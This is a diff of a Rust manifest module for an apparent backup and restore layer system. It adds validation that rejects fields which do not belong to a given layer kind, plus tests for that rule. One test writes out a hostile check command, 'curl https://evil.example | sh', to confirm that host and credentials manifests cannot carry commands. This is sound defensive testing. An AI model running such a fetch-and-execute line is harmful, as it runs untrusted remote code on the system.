@@ -3,11 +3,15 @@
 //! A JSON document beside the layer, named by its digest in the signed targets. `docs/formats/layer.md` specifies it.
 //! [`crate::trust`] checks a manifest against the signed target before anyone may read it.
 
+mod parts;
+
 use serde::{Deserialize, Serialize};
 
 use crate::agent::Agent;
 use crate::session::Session;
 use crate::{Digest, Timestamp, limits};
+
+pub use parts::Part;
 
 /// The format version this code writes, and the newest it reads.
 pub const MANIFEST_FORMAT: u32 = 1;
@@ -163,13 +167,13 @@ pub struct Manifest {
     /// Programs and libraries that must come from this layer or an earlier one.
     #[serde(default)]
     pub requires: Needs,
-    /// Files of the base that this layer may replace, by name; honoured in a *base* manifest only.
+    /// Files that agent and extra layers may replace, by name; base layers only.
     #[serde(default)]
     pub replaceable: Vec<String>,
     /// Packages the files come from, sorted.
     #[serde(default)]
     pub packages: Vec<Package>,
-    /// Commands that show the layer works.
+    /// Commands that show the layer works; not of host and credentials layers, whose content is data.
     #[serde(default)]
     pub checks: Vec<Check>,
     /// How the agent is used; agent layers only.
@@ -313,7 +317,7 @@ impl Manifest {
         if self.kind == Kind::Kernel && self.kernel_release.is_none() {
             return Some("a kernel layer must say its kernel_release".into());
         }
-        None
+        parts::misplaced(self)
     }
 }
 
@@ -378,6 +382,79 @@ mod tests {
                 Manifest::parse(&manifest.to_bytes()),
                 Err(ManifestError::Inconsistent { .. })
             ));
+        }
+    }
+
+    #[test]
+    fn a_hosts_manifest_names_no_program_to_run() {
+        let shell = ["bash", "-c", "curl https://evil.example | sh"].map(str::to_owned);
+        for kind in [Kind::Host, Kind::Credentials] {
+            let mut manifest = example();
+            manifest.kind = kind;
+            Manifest::parse(&manifest.to_bytes()).unwrap();
+            manifest.checks = vec![Check {
+                name: "the layout is there".into(),
+                command: shell.to_vec(),
+            }];
+            let refused = Manifest::parse(&manifest.to_bytes()).unwrap_err();
+            assert!(refused.to_string().contains("\"checks\""), "{refused}");
+        }
+    }
+
+    type Change<'a> = &'a dyn Fn(&mut Manifest);
+
+    #[test]
+    fn each_kind_says_only_what_is_its_own() {
+        let agent = |m: &mut Manifest| {
+            m.agent = serde_json::from_str(r#"{"restore": ["restic", "restore"]}"#).unwrap();
+        };
+        let session = |m: &mut Manifest| {
+            let session = r#"{"time": "2026-03-01T02:00:00Z", "captured": "2026-03-01T02:00:00Z", "hostname": "web-1",
+                "backup": {"agent": "restic", "version": "0.14", "session": "1"}, "rear": "2.7",
+                "hardware": {"architecture": "amd64", "uefi": false, "secure_boot": false, "memory_kib": 1, "pci": [],
+                "modules": [], "disks": [], "boot_loaders": []}}"#;
+            m.session = Some(serde_json::from_str(session).unwrap());
+        };
+        let image = |m: &mut Manifest| {
+            let path = format!("towline/images/20-{}.squashfs", m.kind);
+            let (bytes, content_bytes) = (1, 1);
+            m.image = Some(Image {
+                path,
+                bytes,
+                content_bytes,
+            });
+        };
+        let release = |m: &mut Manifest| m.kernel_release = Some("6.1.0".into());
+        let replaceable = |m: &mut Manifest| m.replaceable = vec!["etc/passwd".into()];
+        let parts: [(Part, Change<'_>); 5] = [
+            (Part::Agent, &agent),
+            (Part::Session, &session),
+            (Part::Image, &image),
+            (Part::KernelRelease, &release),
+            (Part::Replaceable, &replaceable),
+        ];
+        for (part, add) in parts {
+            for kind in [
+                Kind::Kernel,
+                Kind::Base,
+                Kind::Agent,
+                Kind::Host,
+                Kind::Credentials,
+                Kind::Extra,
+            ] {
+                let mut manifest = example();
+                manifest.kind = kind;
+                if kind == Kind::Kernel {
+                    release(&mut manifest);
+                }
+                add(&mut manifest);
+                let found = Manifest::parse(&manifest.to_bytes());
+                assert_eq!(
+                    found.is_ok(),
+                    part.kinds().contains(&kind),
+                    "{part:?} in {kind}: {found:?}"
+                );
+            }
         }
     }
 
